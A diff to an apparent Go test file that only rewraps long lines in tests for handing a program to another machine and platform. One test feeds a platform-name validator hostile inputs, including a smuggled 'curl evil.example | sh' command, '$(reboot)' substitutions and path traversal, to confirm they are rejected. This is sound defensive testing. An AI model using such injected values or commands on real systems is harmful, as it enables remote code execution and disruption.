@@ -67,7 +67,8 @@ func TestHandOver(t *testing.T) {
 		t.Errorf("this machine is given %q", vars[steps.Here]["RAILBENCH"])
 	}
 	path := vars[steps.Peer]["RAILBENCH"]
-	out, err := runner.Text(t.Context(), n, runner.Script{Name: "run it", Body: `"$P"`, Vars: map[string]string{"P": path}})
+	out, err := runner.Text(t.Context(), n,
+		runner.Script{Name: "run it", Body: `"$P"`, Vars: map[string]string{"P": path}})
 	if err != nil || strings.TrimSpace(out) != "handed over" {
 		t.Errorf("%v: %q", err, out)
 	}
@@ -172,7 +173,8 @@ func TestHandOverToAnotherPlatform(t *testing.T) {
 	p := program(t, "linux", "mips")
 	name := "railbench-" + runtime.GOOS + "-" + runtime.GOARCH
 	_, stop, err := p.Start(t.Context(), request(t, n))
-	if err == nil || !strings.Contains(err.Error(), name) || !strings.Contains(err.Error(), "GOARCH="+runtime.GOARCH+" go build") {
+	if err == nil || !strings.Contains(err.Error(), name) ||
+		!strings.Contains(err.Error(), "GOARCH="+runtime.GOARCH+" go build") {
 		t.Errorf("%v", err)
 	}
 	if err := stop(); err != nil {
@@ -194,7 +196,8 @@ func TestHandOverToAnotherPlatform(t *testing.T) {
 func TestAPlatformIsAWord(t *testing.T) {
 	p := program(t, "linux", "arm64")
 	for _, word := range []string{
-		"", "x; curl evil.example | sh #", "$(reboot)", "`reboot`", "../../x", "a b", "x\x1b[2J", "-x", strings.Repeat("x", 1<<20),
+		"", "x; curl evil.example | sh #", "$(reboot)", "`reboot`", "../../x", "a b", "x\x1b[2J", "-x",
+		strings.Repeat("x", 1<<20),
 	} {
 		for _, pair := range [][2]string{{word, "arm64"}, {"linux", word}} {
 			_, err := p.file(pair[0], pair[1])
